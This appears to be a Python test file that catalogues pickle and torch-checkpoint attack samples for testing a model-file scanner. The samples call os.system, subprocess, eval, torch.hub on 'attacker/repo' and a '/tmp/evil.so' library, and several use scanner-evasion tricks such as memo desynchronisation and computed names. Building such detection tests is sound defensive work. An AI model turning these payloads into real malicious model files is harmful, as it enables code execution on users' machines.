"""Names that must not be imported, and the ways to hide that they are."""

from __future__ import annotations

from tests.attacks.assemble import PROTO4, call, items, mapping, name, payload_zip, pickled, stack_name, system, tensor, text, torch_zip
from tests.attacks.catalogue import attack

DANGER = "danger"


@attack(DANGER, "P-CALL", klass=1)
def os_system_checkpoint() -> bytes:
    """A torch zip with an honest tensor beside a call of os.system."""
    return torch_zip(pickled(mapping(weight=tensor(), payload=system())))


@attack(DANGER, "P-CALL", klass=1)
def posix_system() -> bytes:
    return payload_zip(system("posix"))


@attack(DANGER, "P-CALL", klass=1)
def builtins_eval() -> bytes:
    return payload_zip(call("__builtin__", "eval", text("1+1")))


@attack(DANGER, "P-CALL", klass=1)
def subprocess_popen() -> bytes:
    return payload_zip(call("subprocess", "Popen", text("true")))


@attack(DANGER, "P-CALL", klass=1)
def unlisted_stdlib_gadget() -> bytes:
    return payload_zip(call("multiprocessing.util", "spawnv_passfds", b"C\x04true", b"]", b")"))


@attack(DANGER, "P-CALL", klass=1)
def removed_stdlib_gadget() -> bytes:
    return payload_zip(call("distutils.spawn", "spawn", b"]"))


@attack(DANGER, "P-CALL", klass=1)
def resolve_name() -> bytes:
    return payload_zip(call("pkgutil", "resolve_name", text("os:system")))


@attack(DANGER, "P-CALL", klass=2)
def torch_hub() -> bytes:
    return payload_zip(call("torch.hub", "load", text("attacker/repo"), text("model")))


@attack(DANGER, "P-CALL", klass=2)
def torch_load_library() -> bytes:
    return payload_zip(call("torch._ops", "load_library", text("/tmp/evil.so")))


@attack(DANGER, "P-CALL", klass=2)
def numpy_load() -> bytes:
    return payload_zip(call("numpy", "load", text("evil.npy")))


@attack(DANGER, "P-CALL", klass=2)
def pandas_read_pickle() -> bytes:
    return payload_zip(call("pandas", "read_pickle", text("evil.pkl")))


@attack(DANGER, "P-CALL", klass=2)
def joblib_load() -> bytes:
    return payload_zip(call("joblib", "load", text("evil.joblib")))


@attack(DANGER, "P-CALL", klass=2)
def transformers_dynamic_module() -> bytes:
    return payload_zip(call("transformers.dynamic_module_utils", "get_class_in_module", text("X"), text("evil.py")))


@attack(DANGER, "P-IMPORT", klass=4)
def dotted_name() -> bytes:
    return payload_zip(stack_name("random", "_os.system") + items(text("true")) + b"R", PROTO4)


@attack(DANGER, "P-IMPORT", klass=4)
def dotted_name_of_torch() -> bytes:
    return payload_zip(stack_name("torch", "serialization.os.system") + items(text("true")) + b"R", PROTO4)


@attack(DANGER, "P-IMPORT", klass=4)
def dotted_name_of_a_stranger() -> bytes:
    return payload_zip(stack_name("harmless", "inner.os.system") + items(text("true")) + b"R", PROTO4)


@attack(DANGER, "P-CALL", klass=11)
def python_2_alias() -> bytes:
    return payload_zip(call("cPickle", "loads", text("cos\nsystem\n.")))


@attack(DANGER, "P-CALL", klass=11)
def python_2_commands() -> bytes:
    return payload_zip(call("commands", "getoutput", text("true")))


@attack(DANGER, "P-DYNGLOBAL", klass=8)
def computed_name() -> bytes:
    module = call("_codecs", "encode", text("os"), text("latin1"))
    return payload_zip(module + text("system") + b"\x93", PROTO4)


@attack(DANGER, "P-EXT", klass=9)
def extension_registry() -> bytes:
    return payload_zip(b"\x82\x01")


@attack(DANGER, "P-CALL", klass=9)
def extension_registration() -> bytes:
    return payload_zip(call("copyreg", "add_extension", text("os"), text("system"), b"K\x01") + b"0\x82\x01")


@attack(DANGER, "P-IMPORT", klass=4)
def dunder_of_a_stranger() -> bytes:
    return payload_zip(stack_name("harmless", "__loader__"), PROTO4)


@attack(DANGER, "P-IMPORT", klass=2)
def storage_like_name() -> bytes:
    """torch special-cases every name with "Storage" in it; only the exact names are plain."""
    return payload_zip(name("torch.evil", "EvilStorage"))


@attack("suspicious", "P-UNKNOWN", klass=2)
def unknown_class() -> bytes:
    return payload_zip(call("somewhere.models", "Network"))


@attack(DANGER, "P-CALL", klass=5)
def memo_desync() -> bytes:
    """Scanners that remember the argument instead of the value see "collections"; the real memo holds "os"."""
    body = text("os") + b"q\x00" + b"0" + text("collections") + b"q\x01" + b"0" + b"h\x00q\x01" + text("system") + b"\x93"
    return payload_zip(body + items(text("true")) + b"R", PROTO4)


@attack(DANGER, "P-CALL", klass=5)
def module_put_after_pop() -> bytes:
    body = MEMO_WITHOUT_VALUE + text("os") + text("system") + b"\x93" + items(text("true")) + b"R"
    return payload_zip(body, PROTO4)


MEMO_WITHOUT_VALUE = text("a") + text("b") + b"0p5\n0"


@attack("error", "P-PARSE", klass=7)
def stack_global_first() -> bytes:
    """The first opcode is STACK_GLOBAL, with nothing to take."""
    return payload_zip(b"\x93")
